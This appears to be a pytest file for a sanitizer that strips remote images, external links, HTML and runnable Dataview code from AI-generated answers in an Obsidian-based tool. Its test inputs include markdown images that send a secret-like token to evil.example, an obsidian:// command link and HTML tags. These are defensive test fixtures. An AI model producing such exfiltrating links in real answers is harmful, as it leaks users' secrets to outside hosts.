"""Answers made inert before rendering: no remote image, no one-click external link, no HTML, no runnable code."""

from __future__ import annotations

import pytest

from askvault.generate.answer_safety import neutralise_answer


@pytest.mark.parametrize(
    ("answer", "expected", "kinds"),
    [
        pytest.param("Postgres listens on 5433 [1].", "Postgres listens on 5433 [1].", [], id="plain"),
        pytest.param("See ![x](https://evil.example/?q=sk-proj-abc) [1].", "See [image removed: evil.example] [1].",
                     ["image"], id="remote-image"),
        pytest.param("![x](//evil.example/p.png)", "[image removed: evil.example]", ["image"], id="protocol-relative"),
        pytest.param("![net](Attachments/net.png)", "![net](Attachments/net.png)", [], id="vault-image-kept"),
        pytest.param("![[Private/Diary]]", "[[Private/Diary]]", ["embed"], id="note-embed"),
        pytest.param("[here](https://evil.example/?q=1) and [doc](Homelab/Postgres.md)",
                     "here (`https://evil.example/?q=1`) and [doc](Homelab/Postgres.md)", ["link"], id="links"),
        pytest.param("[7](http://x.example)", "[7] (`http://x.example`)", ["link"], id="citation-shaped-link"),
        pytest.param("[run](obsidian://advanced-uri?commandid=x)", "run (`obsidian://advanced-uri?commandid=x`)",
                     ["link"], id="obsidian-uri"),
        pytest.param("Go to https://evil.example/a?d=b now", "Go to `https://evil.example/a?d=b` now", ["link"],
                     id="bare-url"),
        pytest.param("<https://evil.example/x>", "`https://evil.example/x`", ["link"], id="autolink"),
        pytest.param('<img src="https://evil.example/p.png">', '&lt;img src="`https://evil.example/p.png`">',
                     ["html", "link"], id="html-img"),
        pytest.param("<iframe></iframe> a < b", "&lt;iframe>&lt;/iframe> a < b", ["html", "html"], id="html-tags"),
        pytest.param("![r][ref]\n\n[ref]: https://evil.example/r.png", "[image removed]\n\n", ["image", "definition"],
                     id="reference-image"),
        pytest.param("```dataviewjs\ndv.el('b', 'x')\n```", "```text\ndv.el('b', 'x')\n```", ["code"],
                     id="dataviewjs-fence"),
        pytest.param("```python\nprint(1)\n```", "```python\nprint(1)\n```", [], id="python-fence-kept"),
        pytest.param("`$= dv.pages().length` and `= this.file.name`",
                     "`(query) $= dv.pages().length` and `(query) = this.file.name`", ["code", "code"],
                     id="dataview-inline"),
        pytest.param("code `![x](http://e.example)` stays", "code `![x](http://e.example)` stays", [],
                     id="code-span-untouched"),
    ],
)  # fmt: skip
def test_neutralise_answer(answer: str, expected: str, kinds: list[str]) -> None:
    safe = neutralise_answer(answer)
    assert safe.text == expected
    assert sorted(n.kind for n in safe.neutralised) == sorted(kinds)
    assert safe.changed == bool(kinds)


def test_a_neutralised_answer_is_stable() -> None:
    answer = "![x](https://e.example/?q=1) [a](https://e.example) <img src=x> https://e.example/b"
    once = neutralise_answer(answer).text
    assert neutralise_answer(once).text == once


def test_targets_are_hosts_never_full_urls() -> None:
    safe = neutralise_answer("![x](https://evil.example/?q=CANARY-SECRET)")
    assert [n.target for n in safe.neutralised] == ["evil.example"]
